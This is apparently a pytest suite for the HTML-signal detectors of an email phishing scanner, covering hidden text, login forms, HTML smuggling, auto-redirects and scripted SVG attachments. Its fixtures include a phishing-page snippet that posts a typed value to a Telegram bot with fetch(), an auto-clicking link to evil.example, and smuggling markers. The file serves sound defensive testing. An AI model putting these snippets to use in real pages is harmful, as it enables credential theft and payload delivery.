"""HTML signals: forms, hidden text, scripts, redirects, HTML and SVG attachments."""

from __future__ import annotations

import base64
import hashlib
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.mail.model import Attachment, ParsedMail
from rempart.mail.parse import safe_html
from rempart.mail.signals import html

from .support import CTX, annotated_sample_tests, era_headers_test, sample

GROUP = "html"


def _attachment(name: str, data: bytes, ctype: str = "application/octet-stream") -> Attachment:
    return Attachment(name, ctype, data, len(data), hashlib.sha256(data).hexdigest())


def _mail(body: str = "", *atts: Attachment, text: str = "") -> ParsedMail:
    return ParsedMail(source="t", raw_size=0, headers=(), html=body, text=text, attachments=atts)


def _spy(monkeypatch: pytest.MonkeyPatch, name: str, seen: list[Any]) -> None:
    """Record the first argument of every call to ``html.<name>``."""
    real = getattr(html, name)

    def spy(first: Any, *args: Any, **kwargs: Any) -> Any:
        seen.append(first)
        return real(first, *args, **kwargs)

    monkeypatch.setattr(html, name, spy)


def _signals(mail: ParsedMail) -> set[str]:
    return {h.signal for h in html.detect(mail, CTX)}


# --- annotated samples -------------------------------------------------------


(
    test_every_sample_is_annotated,
    test_sample_raises_exactly_the_expected_signals,
    test_every_signal_has_a_sample,
) = annotated_sample_tests(GROUP, html.detect, html.SPECS)


test_verdict_does_not_depend_on_the_era_headers = era_headers_test(GROUP, html.detect)


def test_evidence_names_the_attachment() -> None:
    hits = html.detect(sample(GROUP, "smuggling_iso"), CTX)
    assert hits[0].evidence.startswith("Documents_reunion.html: Blob, createObjectURL")
    login = html.detect(sample(GROUP, "m365_attachment_login"), CTX)[0]
    assert "office365-auth.example-login.top/next.php" in login.evidence


def test_spec_fields_are_filled() -> None:
    for spec in html.SPECS:
        assert spec.id.startswith("html.") and spec.title and spec.why and spec.advice
        assert 0 < spec.prior_weight <= 4


# --- helpers ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "rgb"),
    [
        ("#fff", (255, 255, 255)),
        ("#FFFFFF", (255, 255, 255)),
        ("white", (255, 255, 255)),
        ("rgb(255, 255, 255)", (255, 255, 255)),
        ("rgba(0,0,0,0.54)", (0, 0, 0)),
        ("rgb(100%, 0%, 0%)", (255, 0, 0)),
        ("#12345", None),
        ("transparent", None),
        ("rgb(a,b,c)", None),
    ],
)
def test_parse_colour(value: str, rgb: tuple[int, int, int] | None) -> None:
    assert html.parse_colour(value) == rgb


@pytest.mark.parametrize(
    ("fragment", "hidden"),
    [
        ('<p style="display: none">x</p>', True),
        ('<p style="VISIBILITY:hidden">x</p>', True),
        ('<p style="font-size:0">x</p>', True),
        ('<p style="font-size:1px">x</p>', True),
        ('<p style="font-size:12px">x</p>', False),
        ('<p style="opacity:0.0">x</p>', True),
        ('<p style="max-height:0;overflow:hidden">x</p>', True),
        ('<p style="color:#fefefe">x</p>', True),
        ('<p style="color:#000">x</p>', False),
        ('<div style="background:#1a5276"><p style="color:#fff">x</p></div>', False),
        ('<table><tr><td bgcolor="#c0392b"><font color="#fff">x</font></td></tr></table>', False),
        ('<div bgcolor="#000"><p style="color:#000">x</p></div>', True),
        ('<div style="background:url(a.png)"><p style="color:#fff">x</p></div>', False),
        ("<p hidden>x</p>", True),
    ],
)
def test_hidden_reason(fragment: str, hidden: bool) -> None:
    tree = html.parse_html(f"<html><body>{fragment}</body></html>")
    assert tree is not None
    node = tree.css("p, font")[-1]
    assert bool(html.hidden_reason(node)) is hidden


def test_preheader_is_spared_but_not_a_second_hidden_block() -> None:
    words = " ".join(["mot"] * 20)
    pre = '<div style="display:none">Aperçu de la lettre</div><p>Bonjour</p>'
    assert _signals(_mail(f"<html><body>{pre}</body></html>")) == set()
    late = f'<p>Bonjour</p><div style="display:none">{words}</div>'
    assert _signals(_mail(f"<html><body>{pre}{late}</body></html>")) == {"html.hidden_text"}
    # hidden "preview" text that is not at the start is counted
    assert _signals(_mail(f"<html><body>{late}</body></html>")) == {"html.hidden_text"}


def test_zero_width_words_show_the_whole_word() -> None:
    assert html.zero_width_words("le mot Pay\u200bPal ici") == ["Pay<U+200B>Pal"]
    # preheader padding (&zwnj;&nbsp;) and Persian joiners between non-Latin letters
    assert html.zero_width_words("Aperçu \u200c\u00a0\u200c\u00a0 fin") == []
    assert html.zero_width_words("\u0645\u200c\u06cc") == []


def test_decoded_literals_follow_nested_encodings() -> None:
    inner = "<form><input type=password></form>"
    level2 = f"<script>document.write(atob('{base64.b64encode(inner.encode()).decode()}'))</script>"
    level1 = "".join(f"%{b:02X}" for b in level2.encode())
    texts = html.decoded_literals(f"document.write(unescape('{level1}'))")
    assert texts[0] == level2 and inner in texts


def test_smuggling_needs_a_combination() -> None:
    one = html.smuggling_markers("var b = new Blob(['hi']);", "")
    assert not html.is_smuggling(one)
    decode_only = html.smuggling_markers("x = atob(y); document.title = x;", "")
    assert not html.is_smuggling(decode_only)
    full = html.smuggling_markers("atob(p); new Blob([b]); URL.createObjectURL(b)", "")
    assert html.is_smuggling(full)


def test_download_link_carrying_a_file_is_smuggling() -> None:
    data = base64.b64encode(b"PK\x03\x04" + bytes(2000)).decode()
    page = f'<a href="data:application/zip;base64,{data}" download="f.zip">Télécharger</a>'
    assert _signals(_mail("", _attachment("f.html", page.encode()))) == {"html.smuggling"}
    plain = '<a href="https://example.org/f.zip" download>Télécharger</a>'
    assert _signals(_mail("", _attachment("g.html", plain.encode()))) == set()


def test_html_attachments_are_found_by_type_name_or_content() -> None:
    page = b"<!DOCTYPE html><html><body>x</body></html>"
    assert html.is_html_attachment(_attachment("a.html", b"x"))
    assert html.is_html_attachment(_attachment("", page))
    assert html.is_html_attachment(_attachment("facture.pdf", b"\xef\xbb\xbf  " + page))
    assert html.is_html_attachment(_attachment("x", b"<?xml version='1.0'?><svg></svg>"))
    assert not html.is_html_attachment(_attachment("a.pdf", b"%PDF-1.7 <html>"))
    assert not html.is_html_attachment(_attachment("data.xml", b"<?xml version='1.0'?><nfe/>"))


def test_search_boxes_are_not_data_forms() -> None:
    search = '<form action="https://s.example/"><input name="q"><input type=submit></form>'
    assert _signals(_mail(search)) == set()
    email = '<form action="https://s.example/"><input type="email" name="e"></form>'
    assert _signals(_mail(email)) == {"html.form"}


def test_attachment_posting_to_telegram_is_a_login_page() -> None:
    page = b"""<html><input id=e><script>
    fetch("https://api.telegram.org/bot123/sendMessage?text=" + e.value)</script></html>"""
    assert _signals(_mail("", _attachment("doc.html", page))) == {"html.attachment_login"}


def test_attachment_auto_clicking_a_remote_link_is_a_redirect() -> None:
    page = b"""<html><body onload="document.getElementById('1').click();">
    <a id="1" href="https://evil.example/index.html">Open</a></body></html>"""
    assert _signals(_mail("", _attachment("Bitcoin.html", page))) == {"html.redirect"}


def test_svg_with_event_handler_or_foreign_form() -> None:
    handler = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="go()"/></svg>'
    assert _signals(_mail("", _attachment("a.svg", handler))) == {"html.svg_script"}
    foreign = (b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form>'
               b"<input name=a></form></foreignObject></svg>")  # fmt: skip
    assert _signals(_mail("", _attachment("b.svg", foreign))) == {"html.svg_script"}
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>'
    assert _signals(_mail("", _attachment("logo.svg", plain, "image/svg+xml"))) == set()


# --- hostile input ----------------------------------------------------------------


@pytest.mark.parametrize("tag", ["div", "section", "blockquote", "font", "span", "table"])
def test_deeply_nested_unclosed_tags_stay_fast(tag: str, monkeypatch: pytest.MonkeyPatch) -> None:
    deep = f"<{tag} style='color:#fff'>" * 100_000 + "mot " * 20
    flattened: list[str] = []
    parsed: list[str] = []
    styled: list[object] = []
    _spy(monkeypatch, "safe_html", flattened)
    _spy(monkeypatch, "parse_html", parsed)
    _spy(monkeypatch, "hidden_reason", styled)
    assert html.detect(_mail(deep, _attachment("deep.html", deep.encode())), CTX) == []
    # body and attachment are cut to the text budget, then reach lexbor with their block
    # nesting already flattened (nothing left for safe_html to rename); at most MAX_NODES
    # styled elements are examined of the 100,000
    assert len(flattened) == len(parsed) == 2
    assert all(len(text) <= CTX.limits.max_text_chars for text in flattened)
    assert all(safe_html(text) == (text, 0) for text in parsed)
    assert 0 < len(styled) <= html.MAX_NODES


def test_hostile_html_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    styles = '<p style="' + "color:#fff;" * 20_000 + '">x</p>'
    many_hidden = '<span style="display:none">mot mot</span>' * 50_000
    payload = "A" * 3_000_000
    script = f"<script>atob('{payload}'); unescape('{'%41' * 300_000}')</script>"
    atts = tuple(_attachment(f"p{i}.html", script.encode()) for i in range(30))
    parsed: list[str] = []
    docs: list[html.HtmlDoc] = []
    zero_width: list[str] = []
    _spy(monkeypatch, "parse_html", parsed)
    _spy(monkeypatch, "_attachment", docs)
    _spy(monkeypatch, "zero_width_words", zero_width)
    hits = html.detect(_mail(styles + many_hidden + script, *atts, text="Pa\u200bY" * 500_000), CTX)
    assert all(len(h.evidence) <= 300 for h in hits)
    # every text is cut to the budget: lexbor's inputs, the HTML attachments all together
    # (so not all 30 are read), the text searched for zero-width characters
    limit = CTX.limits.max_text_chars
    assert parsed and all(len(text) <= limit for text in parsed)
    assert 0 < len(docs) <= html.MAX_HTML_ATTACHMENTS
    assert sum(len(doc.html) for doc in docs) <= limit
    assert zero_width and all(len(text) <= limit for text in zero_width)
    # of the 50,000 hidden spans, at most MAX_NODES styled elements were looked at
    assert [h.signal for h in hits] == ["html.hidden_text"]
    pieces = int(hits[0].evidence.split(" hidden pieces")[0])
    assert 0 < pieces <= html.MAX_NODES


def test_binary_garbage_named_html_does_not_crash() -> None:
    garbage = bytes(range(256)) * 4000
    assert html.detect(_mail("", _attachment("x.html", garbage)), CTX) == []
    utf16 = "<html><input type=password></html>".encode("utf-16")
    assert _signals(_mail("", _attachment("y.html", utf16))) == {"html.attachment_login"}


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("<>/=\"' divspanformstyle:#fonthidden;0x")), max_size=400)
)
def test_random_markup_never_raises(markup: str) -> None:
    mail = _mail(markup, _attachment("r.html", markup.encode()), text=markup)
    for hit in html.detect(mail, CTX):
        assert hit.signal in {s.id for s in html.SPECS}
